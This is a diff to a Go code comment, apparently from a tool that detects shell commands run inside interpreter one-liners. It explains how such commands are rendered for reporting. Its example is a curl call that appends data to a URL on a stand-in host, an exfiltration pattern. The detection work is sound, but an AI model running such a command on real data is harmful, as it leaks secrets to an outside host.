@@ -124,7 +124,10 @@ const (
 //     (Source "python -c", "node -e", "perl -e", "ruby -e", "php -r",
 //     "bun -e", "deno eval", "osascript -e", "awk"; code read from stdin:
 //     "python <<" or "| python"); the commands they run are listed Via
-//     the same name, one Depth deeper.
+//     the same name, one Depth deeper. Their Line is the literal's text,
+//     "…" standing for an operand concatenated to it that is not a
+//     literal ('curl https://e.example/?d=' + data: "curl
+//     https://e.example/?d=…"), or the call's text for an argv list.
 //
 // # Encoded data
 //
